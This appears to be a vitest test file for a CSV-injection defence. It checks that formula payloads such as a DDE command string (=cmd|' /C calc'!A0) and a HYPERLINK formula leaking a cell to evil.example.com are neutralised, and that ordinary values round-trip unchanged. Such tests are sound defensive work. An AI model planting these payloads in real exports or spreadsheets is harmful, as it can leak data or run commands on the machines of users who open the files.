import fc from 'fast-check';
import { expect, test } from 'vitest';
import { inertCell, liveCell } from './inert-cell.ts';

// OWASP "CSV Injection" (=, +, -, @, tab, carriage return, line feed, full width), Symfony CVE-2021-41270 (a tab in front is
// no guard), EspoCRM CVE-2026-55154 (leading blanks and controls), SuiteCRM CVE-2021-25960.
const DANGEROUS = [
  '=1+1', '+1', '-1', '@SUM(A1)', '\t=1', ' =1', '\u0000=1', '\u200b=cmd', '\n=1', '\r', '＝1+1', '＋1', '－1', '＠x', '|calc', '%0A=1', '\ufeff=1', '   @x', '\u00a0=1', '\u202e=1', '\tabc', '\n', '\r\nx',
  `=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example.com?leak="&A1,"click")`, '=1+2";=1+2', `=1+2'" ;,=1+2`, '+31612345678', "'=1", "''=1", "'\t",
];

test.each(DANGEROUS)('%j is made harmless', (text) => {
  expect(inertCell(text)).toBe(`'${text}`);
});

test.each(['Jansen', 'a=b', '12', 'team: sales', '', '2026-01-01', "'s-Hertogenbosch", "'t Hart", "'", "''"])('%j stays as it is, out and in', (text) => {
  expect(inertCell(text)).toBe(text);
  expect(liveCell(text)).toBe(text);
});

test.each(['=1', '-5', '+31 20 624 11 11'])('%j from a file of another program is left alone', (text) => {
  expect(liveCell(text)).toBe(text);
});

test('every text comes back as it was', () => {
  const nasty = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\n', '\r', ' ', '\u200b', '＝', 'a', '0', '"', ';', ',') });
  fc.assert(fc.property(fc.oneof(nasty, fc.string({ unit: 'binary' })), (text) => liveCell(inertCell(text)) === text), { numRuns: 1_000 });
}, 30_000);
